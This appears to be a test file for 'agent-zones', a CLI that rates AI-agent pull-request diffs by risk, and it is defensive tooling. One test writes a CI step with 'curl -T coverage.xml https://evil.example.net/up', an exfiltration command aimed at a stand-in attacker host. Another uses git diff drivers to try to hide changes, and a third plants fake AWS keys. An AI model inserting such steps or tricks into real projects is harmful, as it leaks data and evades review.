import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { cli, json, rules } from './helpers.js';

const DOCS_DIFF = `diff --git a/docs/guide.md b/docs/guide.md
index 1111111..2222222 100644
--- a/docs/guide.md
+++ b/docs/guide.md
@@ -1 +1,2 @@
 # Guide
+More words.
`;

describe('agent-zones classify --diff', () => {
  test('the shipped example: JSON of the contract shape, red for the workflow change', async () => {
    const r = await cli(['classify', '--diff', 'examples/agent-pr.diff', '--json']);
    assert.equal(r.code, 0, r.stderr);
    const d = json(r);
    assert.equal(d.zone, 'red');
    assert.deepEqual(Object.keys(d).sort(), ['files', 'reasons', 'steps', 'zone']);
    const byPath = Object.fromEntries(d.files.map((f) => [f.path, f]));
    assert.equal(byPath['docs/rate-limits.md']?.zone, 'green');
    assert.equal(byPath['test/client/rate-limit.test.ts']?.zone, 'green');
    assert.equal(byPath['src/client/rate-limit.ts']?.zone, 'yellow');
    assert.equal(byPath['src/client/rate-limit.ts']?.status, 'added');
    assert.equal(byPath['package.json']?.zone, 'yellow');
    assert.equal(byPath['.github/workflows/ci.yml']?.zone, 'red');
    for (const f of d.files) {
      assert.ok(['path', 'previousPath', 'status', 'zone', 'reasons'].every((k) => k in f));
      for (const x of f.reasons) assert.ok(x.rule && x.zone && x.message);
    }
    const step = d.steps.find((s) => s.step?.includes('Smoke test'));
    assert.ok(step, JSON.stringify(d.steps));
    assert.equal(step.zone, 'red');
    assert.equal(step.workflow, '.github/workflows/ci.yml');
    assert.ok(step.reasons.some((x) => x.rule === 'step:credential-access'));
    assert.ok(step.reasons.some((x) => x.rule === 'step:network'));
    assert.ok(step.reasons.every((x) => typeof x.line === 'number'));
  });

  test('reads the diff from stdin with -', async () => {
    const r = await cli(['classify', '--diff', '-', '--json'], DOCS_DIFF);
    assert.equal(r.code, 0);
    assert.equal(json(r).zone, 'green');
  });

  test('an empty diff is green', async () => {
    const r = await cli(['classify', '--diff', '-', '--json'], '');
    assert.equal(json(r).zone, 'green');
  });

  test('a hunk cut short is pr:truncated (red), PR-level', async () => {
    const r = await cli(['classify', '--diff', '-', '--json'], DOCS_DIFF.replace('@@ -1 +1,2 @@', '@@ -1 +1,5 @@'));
    const d = json(r);
    assert.equal(d.zone, 'red');
    assert.ok(d.reasons.some((x) => x.rule === 'pr:truncated'));
  });

  test('--fail-on: exit 1 at or above the zone, 0 below', async () => {
    assert.equal((await cli(['classify', '--diff', 'examples/agent-pr.diff', '--fail-on', 'red'])).code, 1);
    assert.equal((await cli(['classify', '--diff', '-', '--fail-on', 'yellow'], DOCS_DIFF)).code, 0);
    assert.equal((await cli(['classify', '--diff', 'examples/agent-pr.diff', '--fail-on', 'yellow', '--json'])).code, 1);
  });

  test('bad input: exit 2 with one line on stderr', async () => {
    for (const args of [
      ['classify', '--diff', '/nonexistent/x.diff'],
      ['classify'],
      ['classify', '--diff', '-', '--base', 'HEAD'],
      ['classify', '--diff', '-', '--fail-on', 'green'],
      ['classify', '--diff', '-', '--bogus'],
      ['nonsense'],
    ]) {
      const r = await cli(args, DOCS_DIFF);
      assert.equal(r.code, 2, `${args.join(' ')}: ${r.stderr}`);
      assert.equal(r.stdout, '');
      assert.equal(r.stderr.trim().split('\n').length, 1, r.stderr);
      assert.match(r.stderr, /^agent-zones: /);
    }
    const notDiff = await cli(['classify', '--diff', '-'], 'just some text\n');
    assert.equal(notDiff.code, 2);
    assert.match(notDiff.stderr, /not a unified diff/);
  });

  test('an invalid config: exit 2 naming file, line and column', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'az-cfg-'));
    const cfg = join(dir, 'zones.yml');
    writeFileSync(cfg, 'version: 1\npaths:\n  gren: ["x/**"]\n');
    const r = await cli(['classify', '--diff', '-', '--config', cfg], DOCS_DIFF);
    assert.equal(r.code, 2);
    assert.match(r.stderr, /zones\.yml:3:\d+/);
    assert.match(r.stderr, /gren/);
    assert.equal(r.stderr.trim().split('\n').length, 1);
  });

  test('a config adds globs: paths.red raises a docs file', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'az-cfg-'));
    const cfg = join(dir, 'zones.yml');
    writeFileSync(cfg, 'version: 1\npaths:\n  red: ["docs/guide.md"]\n');
    const r = await cli(['classify', '--diff', '-', '--config', cfg, '--json'], DOCS_DIFF);
    assert.equal(json(r).zone, 'red');
    assert.ok(rules(r).includes('path:config-red'));
  });

  test('the table: zone, path, rule and message, no colour off a terminal, colour on one', async () => {
    const r = await cli(['classify', '--diff', 'examples/agent-pr.diff']);
    assert.match(r.stdout, /^Zone: RED/);
    assert.match(r.stdout, /path:docs/);
    assert.match(r.stdout, /\.github\/workflows\/ci\.yml/);
    assert.doesNotMatch(r.stdout, /\u001b\[/);
    const tty = await cli(['classify', '--diff', 'examples/agent-pr.diff'], '', true);
    assert.match(tty.stdout, /\u001b\[31m/);
  });
});

function git(dir: string, ...args: string[]): string {
  return execFileSync('git', ['-C', dir, ...args], { encoding: 'utf8', env: { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@example.com', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@example.com' } });
}

describe('agent-zones classify --base/--head', () => {
  function repo(): string {
    const dir = mkdtempSync(join(tmpdir(), 'az-repo-'));
    git(dir, 'init', '-q', '-b', 'main');
    mkdirSync(join(dir, '.github/workflows'), { recursive: true });
    mkdirSync(join(dir, 'docs'), { recursive: true });
    writeFileSync(join(dir, 'docs/a.md'), '# A\n');
    writeFileSync(join(dir, '.github/agent-zones.yml'), 'version: 1\npaths:\n  green: ["generated/**"]\n');
    writeFileSync(join(dir, '.github/workflows/ci.yml'), 'on: push\npermissions: {}\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n');
    git(dir, 'add', '-A');
    git(dir, 'commit', '-qm', 'base');
    git(dir, 'checkout', '-qb', 'agent/x');
    return dir;
  }

  test('computes the diff from git, uses the config of the BASE commit, ignores the one in the head', async () => {
    const dir = repo();
    mkdirSync(join(dir, 'generated'));
    writeFileSync(join(dir, 'generated/api.ts'), 'export const x = 1;\n');
    // The head loosens the config: it must not apply to this change.
    writeFileSync(join(dir, '.github/agent-zones.yml'), 'version: 1\npaths:\n  green: ["**"]\n');
    writeFileSync(join(dir, 'src.ts'), 'export const y = 2;\n');
    git(dir, 'add', '-A');
    git(dir, 'commit', '-qm', 'head');
    const r = await cli(['classify', '--base', 'main', '--repo', dir, '--json']);
    assert.equal(r.code, 0, r.stderr);
    const d = json(r);
    const by = Object.fromEntries(d.files.map((f) => [f.path, f.zone]));
    assert.equal(by['generated/api.ts'], 'green');
    assert.equal(by['src.ts'], 'yellow');
    assert.equal(by['.github/agent-zones.yml'], 'red');
    assert.equal(d.zone, 'red');
  });

  test('workflow steps are judged from the full base and head files: only the changed step is reported', async () => {
    const dir = repo();
    writeFileSync(join(dir, '.github/workflows/ci.yml'), 'on: push\npermissions: {}\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n      - name: upload\n        run: curl -T coverage.xml https://evil.example.net/up\n');
    git(dir, 'commit', '-qam', 'head');
    const d = json(await cli(['classify', '--base', 'main', '--head', 'HEAD', '--repo', dir, '--json']));
    const named = d.steps.filter((s) => s.step !== null);
    assert.deepEqual(named.map((s) => s.step), ['upload']);
    assert.equal(named[0]?.zone, 'red');
    assert.equal(named[0]?.reasons[0]?.line !== undefined, true);
  });

  test('a repository textconv or external diff driver cannot hide content', async () => {
    const dir = repo();
    writeFileSync(join(dir, '.gitattributes'), '*.ts diff=hide\n');
    git(dir, 'config', 'diff.hide.textconv', 'sh -c "echo nothing"');
    git(dir, 'config', 'diff.external', 'true');
    git(dir, 'add', '-A');
    git(dir, 'commit', '-qm', 'attrs');
    const base = git(dir, 'rev-parse', 'HEAD').trim();
    writeFileSync(join(dir, 'x.ts'), 'const k = "AKIAZ5Q3XJ7K2M4N6P8R";\nconst s = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzq8d3kLm2N";\n');
    git(dir, 'add', '-A');
    git(dir, 'commit', '-qm', 'key');
    const d = json(await cli(['classify', '--base', base, '--repo', dir, '--json']));
    assert.equal(d.zone, 'red');
    assert.ok(d.files[0]?.reasons.some((x) => x.rule === 'content:secret'), JSON.stringify(d.files));
  });

  test('an unknown revision is a clean error', async () => {
    const dir = repo();
    const r = await cli(['classify', '--base', 'no-such-rev', '--repo', dir]);
    assert.equal(r.code, 2);
    assert.equal(r.stderr.trim().split('\n').length, 1);
  });
});

describe('the installed bin', () => {
  test('npx agent-zones runs the built CLI', () => {
    const r = spawnSync(process.execPath, ['bin/agent-zones.js', 'classify', '--diff', 'examples/agent-pr.diff', '--json'], { encoding: 'utf8' });
    assert.equal(r.status, 0, r.stderr);
    assert.equal(JSON.parse(r.stdout).zone, 'red');
    const bad = spawnSync(process.execPath, ['bin/agent-zones.js', 'classify', '--diff', 'nope.diff'], { encoding: 'utf8' });
    assert.equal(bad.status, 2);
  });
});
